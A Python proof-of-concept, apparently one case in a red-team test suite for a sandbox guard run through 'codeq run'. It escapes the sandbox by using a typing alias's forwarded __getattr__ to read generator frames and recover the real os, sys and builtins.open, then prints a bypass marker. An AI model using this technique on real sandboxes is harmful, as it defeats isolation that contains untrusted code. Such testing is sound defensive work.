# typing._BaseGenericAlias.__getattr__(name) relays any non-dunder name to getattr(self.__origin__,
# name) with the real getattr, in typing's frame. The job calls the harmless dunder __getattr__
# of an alias it made itself (type(typing.List[int])(origin, args, name=...)) with a name built at
# run time: introspection names (gi_frame, f_back, f_globals) are non-dunder, so typing's check
# passes and the audit hook allows reads from library frames.
# It read a running generator's frame, whose f_back chain reached the guard's start() frame: the real
# sys, os and builtins in its globals.
# Found by a fourth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "135_typing_alias_forwarded_frame"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import typing

Alias = type(typing.List[int])


def read(obj, name):
    return Alias(obj, (int,), name="x").__getattr__(name)


holder = {}


def g():
    frame = read(holder["gen"], "gi_" + "frame")
    chain = []
    for _ in range(10):  # walked while the generator runs: f_back is its caller
        if frame is None:
            break
        chain.append(frame)
        frame = read(frame, "f_" + "back")
    yield chain


gen = g()
holder["gen"] = gen
chain = next(gen)
for fr in chain:
    glb = read(fr, "f_" + "globals")
    if "_os" in glb and "_sys" in glb:
        os_mod = glb["_os"]
        real_sys = glb["_sys"]
        won("%s pid=%s real_sys_is_module=%s real_builtins_open=%s" % (
            type(os_mod) is type(typing), os_mod.getpid(), type(real_sys) is type(typing) and "posix" in real_sys.modules,
            glb["_builtins"].open))
        break
else:
    print("no guard frame; frames:", len(chain))
